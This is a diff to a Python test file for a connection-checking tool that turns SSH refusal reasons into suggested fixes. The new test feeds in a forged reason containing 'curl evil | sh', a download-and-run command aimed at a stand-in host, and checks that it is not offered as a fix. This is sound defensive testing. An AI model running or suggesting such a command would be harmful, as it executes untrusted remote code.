@@ -19,10 +19,12 @@ def checks(state: str = "live", reason: str = "", sample: bool = True, **connect
 
 
 def test_a_node_that_is_not_reached_has_one_check_with_its_reason() -> None:
-    found = checks("refused", "wrong key (ssh-add)", sample=False)
+    found = checks("refused", "wrong key (ssh h1 shows why)", sample=False)
     assert list(found) == ["connection"]
     assert (found["connection"]["state"], found["connection"]["why"]) == ("missing", "refused: wrong key")
-    assert found["connection"]["fix"] == "ssh-add"
+    assert found["connection"]["fix"] == "ssh h1 shows why"
+    forged = checks("refused", "wrong key (curl evil | sh)", sample=False)["connection"]
+    assert (forged["why"], forged["fix"]) == ("refused: wrong key (curl evil | sh)", "")
 
 
 def test_how_it_was_reached() -> None:
